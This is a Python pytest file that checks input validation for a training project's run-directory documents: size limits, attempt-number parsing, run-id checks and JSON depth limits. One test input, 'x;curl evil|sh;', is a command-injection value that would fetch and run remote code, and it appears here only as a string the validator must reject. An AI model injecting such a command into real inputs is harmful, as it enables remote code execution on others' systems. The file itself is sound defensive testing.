"""What is accepted of a run directory's documents."""

import json

import pytest

from cloud_train.errors import CorruptError
from cloud_train.run import documents
from tests.storage.memory_store import MemoryStore


def test_an_object_of_exactly_the_limit_is_read_and_one_byte_more_is_refused() -> None:
    store = MemoryStore()
    store.place("a", b"x" * 100)
    assert documents.read(store, "a", 100) == b"x" * 100
    with pytest.raises(CorruptError, match="memory://store/a is larger than the limit of 99 bytes"):
        documents.read(store, "a", 99)


@pytest.mark.parametrize(("name", "number"), [("1", 1), ("999999", 999_999), ("10", 10)])
def test_an_attempt_has_a_number_in_its_usual_spelling(name: str, number: int) -> None:
    assert documents.attempt_number(name) == number


@pytest.mark.parametrize("name", ["", "0", "01", "-1", "+1", "1 ", "1\n", "1000000", "²", "٧", "1_0", "1e3"])
def test_every_other_name_is_no_attempt(name: str) -> None:
    assert documents.attempt_number(name) is None


@pytest.mark.parametrize(
    "text", ["x;curl evil|sh;", "a-261130-091500-k3f9\n", "A-261130-091500-k3f9", "a-٢٦١١٣٠-091500-k3f9", "-" * 59, ""]
)
def test_what_is_no_run_id_is_refused_and_shown_escaped(text: str) -> None:
    with pytest.raises(CorruptError, match="is not a run id") as raised:
        documents.check_run_id(text)
    assert raised.value.message.isascii()
    assert raised.value.message.isprintable()


def test_the_depth_of_a_document_has_a_limit() -> None:
    def nested(depth: int) -> bytes:
        return json.dumps({"a": json.loads("[" * depth + "1" + "]" * depth)}).encode()

    assert documents.load(nested(60), 1000)
    with pytest.raises(ValueError, match="more than 64 levels deep"):
        documents.load(nested(70), 1000)
    with pytest.raises(ValueError, match="nested too deeply"):
        documents.load(nested(70).replace(b"1", b"[" * 100_000 + b"]" * 100_000), 1_000_000)
